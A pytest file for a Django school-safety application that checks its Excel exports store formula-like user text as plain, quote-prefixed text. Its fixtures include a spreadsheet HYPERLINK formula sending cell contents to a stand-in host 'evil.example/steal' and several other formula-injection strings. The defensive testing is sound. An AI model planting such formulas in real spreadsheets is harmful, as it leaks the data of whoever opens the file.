"""User text in every export is written as text: a leading =, +, -, @, tab or CR never makes a formula."""

import io
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook

from safecampus.core import clock
from safecampus.core.imports import IMPORTERS
from safecampus.core.xlsx_stream import append_row, stream_xlsx, text_cell, workbook_bytes
from safecampus.hazards import checklist_excel
from safecampus.hazards.models import HazardLevel
from safecampus.hazards.services import workflow
from safecampus.orgs.models import OrgUnit
from safecampus.testing.incidents import report

LINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看")'
PAYLOADS = [LINK, "+1", "-1", "@SUM(1)", "=1+1", "\t=1+1", "\r=1+1"]


def cells(data):
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_text(data, expected):
    found = cells(data)
    assert not [c.coordinate for c in found if c.data_type == "f"], "no formula anywhere"
    values = {c.value: c for c in found if isinstance(c.value, str)}
    for payload in expected:
        assert payload in values, f"{payload!r} is missing or changed"
        assert values[payload].data_type == "s" and values[payload].quotePrefix, payload


def test_the_streaming_writer_keeps_text_as_text_and_numbers_as_numbers():
    rows = [[payload, 1, -1.5, date(2026, 5, 1), datetime(2026, 5, 1, 8, 0)] for payload in PAYLOADS]
    data = b"".join(stream_xlsx("台账", ["文字", "数", "数", "日期", "时间"], rows))
    assert_text(data, PAYLOADS)
    row = list(load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2, max_row=2, values_only=True))[0]
    assert row[1:] == (1, -1.5, datetime(2026, 5, 1), datetime(2026, 5, 1, 8, 0))


def test_the_openpyxl_helpers_keep_text_as_text_and_numbers_as_numbers():
    book = Workbook()
    sheet = book.active
    for payload in PAYLOADS:
        append_row(sheet, [payload, 3, -2, date(2026, 5, 1), "普通文字"])
    sheet["F1"] = "=SUM(1,2)"  # placed by hand, past the helpers: the save still defuses it
    sheet["G1"] = text_cell(sheet, "=A1").value
    data = workbook_bytes(book)
    # openpyxl writes a bare CR, which XML reads back as LF: still text, still quote-prefixed.
    assert_text(data, [*PAYLOADS[:-1], "\n=1+1", "=SUM(1,2)", "=A1"])
    first = next(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
    assert first[1:5] == (3, -2, datetime(2026, 5, 1), "普通文字")


def test_templates_carry_no_formula():
    for importer in IMPORTERS.values():
        assert_text(importer(actor=None).template(), [])
    assert_text(checklist_excel.template(), [])


@pytest.fixture
def poisoned(tree, who):
    """A school, a county and records whose names and texts start like formulas."""
    OrgUnit.objects.filter(pk=tree.school.pk).update(name="@SUM(1)")
    OrgUnit.objects.filter(pk=tree.county.pk).update(name="-1")
    tree.school.refresh_from_db()
    for level in (HazardLevel.GENERAL, HazardLevel.MAJOR):
        workflow.report_hazard(
            actor=who.staff, school=tree.school, place=LINK, area="fire", level=level, description="+1"
        )
    report(tree, who, title=LINK, place="+1", description="-1")
    return tree


@pytest.mark.django_db
def test_the_hazard_ledger_export(client, poisoned, who):
    client.force_login(who.county_officer)
    response = client.get(f"/org/{poisoned.county.pk}/hazards/export.xlsx")
    assert_text(b"".join(response.streaming_content), [LINK, "+1", "@SUM(1)"])


@pytest.mark.django_db
def test_the_incident_ledger_export(client, poisoned, who):
    client.force_login(who.city_leader)
    response = client.get(f"/org/{poisoned.city.pk}/incidents/export.xlsx")
    assert_text(b"".join(response.streaming_content), [LINK, "+1", "@SUM(1)"])


@pytest.mark.django_db
def test_the_three_lists_export(client, poisoned, who):
    client.force_login(who.county_officer)
    response = client.get(f"/org/{poisoned.county.pk}/hazards/three-lists/", {"download": "1"})
    assert response.status_code == 200
    assert_text(response.content, [LINK, "+1", "@SUM(1)"])


@pytest.mark.django_db
def test_the_bimonthly_review_export(client, poisoned, who):
    client.force_login(who.city_leader)
    today = clock.today()
    period = f"{today.year}-{(today.month + 1) // 2}"
    response = client.get(f"/org/{poisoned.city.pk}/review.xlsx", {"period": period})
    assert response.status_code == 200
    assert_text(response.content, [LINK, "+1", "-1", "@SUM(1)"])
